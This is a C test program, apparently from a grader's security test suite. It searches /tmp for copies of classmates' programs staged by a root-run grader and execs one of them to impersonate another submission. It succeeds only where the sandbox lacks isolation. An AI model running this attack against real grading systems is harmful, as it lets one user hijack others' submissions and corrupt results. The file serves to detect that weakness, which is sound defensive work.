// Looks for copies that a grader who is root has made of class mates' programs, for a user without
// rights to start, and becomes one. AC is the attack working: RTE (exit-1) where there is none. It
// needs others beside it (-j 2), and no Landlock; see hostile_class.sh, staged.
#include <glob.h>

#include "attack.h"

int main(void) {
  char own[512] = "";
  readlink("/proc/self/exe", own, sizeof own - 1);
  const char* own_name = strrchr(own, '/') != NULL ? strrchr(own, '/') : own;
  for (seconds_since_start(); seconds_since_start() < 1.5; usleep(1000)) {
    glob_t found = {0};
    glob("/tmp/flocking-*/*/*", 0, NULL, &found);
    for (size_t i = 0; i < found.gl_pathc; ++i) {
      char* arguments[] = {found.gl_pathv[i], NULL};
      if (strcmp(strrchr(found.gl_pathv[i], '/'), own_name) != 0) execv(arguments[0], arguments);
    }
    globfree(&found);
  }
  return 1;
}
